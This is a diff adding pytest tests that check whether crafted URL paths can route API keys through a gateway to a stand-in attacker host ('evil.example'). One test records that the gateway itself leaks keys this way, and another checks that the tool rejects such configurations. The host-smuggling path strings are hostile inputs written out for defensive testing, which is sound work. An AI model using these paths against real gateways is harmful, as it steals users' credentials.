@@ -100,3 +100,41 @@ def test_no_header_of_the_settings_leads_a_key_away(header: str, evil: Evil, pro
                 continue
             assert any(code in ran.err for code in ("RC0301", "RC0305", "RC0314")), ran.err
     assert evil.heard_keys() == before
+
+
+def paths(evil: Evil) -> list[str]:
+    """Of a url, each with the host of somebody else in it."""
+    at = f"evil.example:{evil.listeners[0].port}"
+    return [f"/v1/{at}/x.openai.azure.com", f"/v1/proxy/{at}/x.openai.azure.com", f"/v1/{at}/.openai.azure.com/v1"]
+
+
+def test_the_gateway_itself_is_led_away_by_a_path(evil: Evil) -> None:
+    for path in paths(evil):
+        before = len(evil.heard_keys())
+        headers = {"x-portkey-provider": "azure-openai", "authorization": f"Bearer {KEYS['UPSTREAM_KEY']}"}
+        with suppress(OSError):
+            url = f"{evil.gateway}{path}/assistants"
+            urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=60)
+        assert len(evil.heard_keys()) > before, path
+
+
+@pytest.mark.parametrize("by", ["target", "provider", "trusted provider"])
+def test_no_path_of_a_url_leads_a_key_away(by: str, evil: Evil, project: Project) -> None:
+    project.environment |= {**KEYS, "RECONCILER_TRUST_PROVIDERS": "acme" if by == "trusted provider" else ""}
+    project.write("assistants.d/a.yaml", "name: a\nmodel: gpt-4o\n")
+    before = evil.heard_keys()
+    for path in paths(evil):
+        url = f"url: '{evil.gateway}{path}'"
+        named = "headers: {x-portkey-provider: azure-openai, x-portkey-azure-resource-name: desk}"
+        keys = "credentials: {api_key: !env PORTKEY_API_KEY, provider_key: !env UPSTREAM_KEY}"
+        in_provider = "" if by == "target" else f"{url}\n{named}\n"
+        project.write("providers/acme.yaml", f"extends: portkey\n{in_provider}")
+        own = f", {url}, {named}" if by == "target" else ""
+        project.write(
+            "assistants.d/reconciler.yaml",
+            f"owner: x\ndefault_target: t\ntargets:\n  t: {{provider: acme, {keys}{own}}}\n",
+        )
+        for verb in ("plan", "apply"):
+            ran = project.run(verb, *(["--yes"] if verb == "apply" else []))
+            assert (ran.code, "RC0305]" in ran.err) == (1, True), ran.err
+    assert evil.heard_keys() == before
